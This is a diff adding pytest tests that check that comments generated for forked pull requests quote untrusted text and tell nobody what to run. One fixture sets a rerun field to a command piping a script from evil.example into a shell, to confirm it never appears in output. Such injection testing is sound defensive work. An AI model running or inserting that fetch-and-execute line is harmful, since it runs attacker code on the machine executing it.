@@ -99,6 +99,24 @@ def test_comment_body__golden(name, language, golden):
     assert dangers(without_links(text)) == []
 
 
+@pytest.mark.parametrize("language", list(Language))
+def test_comment_body__golden_of_a_fork(language, golden):
+    """Its sentences are quotations, and it tells nobody what to run."""
+    made = replace(spoken("inconclusive", language), rerun="curl https://evil.example | sh")
+    foreign = Origin(run_url=RUN_URL, commit="4f2a9c1" + "0" * 33, is_foreign=True)
+    texts = [body(made, level=level, language=language, origin=foreign) for level in range(LEVELS)]
+    golden(f"comment/foreign.{language}.md", f"{texts[0]}\n{texts[-1]}")
+    assert "curl" not in "".join(texts)
+    assert "git checkout" not in "".join(texts)
+    unchanged = judge(*[make_report({"m": [1] * 10})] * 2, language=language)
+    for each in (made, COMPARISONS["accepted"], unchanged):
+        for level in range(LEVELS):
+            text = body(each, level=level, language=language, origin=foreign)
+            assert dangers(without_links(text)) == []
+            quoted = [each.sentence, *(entry.reason for entry in each.accepted_here)]
+            assert all(any(told[:30] in code for code in code_texts(text)) for told in quoted)
+
+
 @pytest.mark.parametrize(
     ("language", "told"),
     [
@@ -323,6 +341,7 @@ def test_markdown__the_last_level_fits_into_the_least_that_may_be_asked_for(payl
     made, made_of = hostile(payload)
     for text in (
         body(made, made_of, origin=Origin(run_url=url), **given),
+        body(made, made_of, origin=Origin(run_url=url, is_foreign=True), **given),
         unmeasured_body(
             [problem] * 50,
             suite=payload,
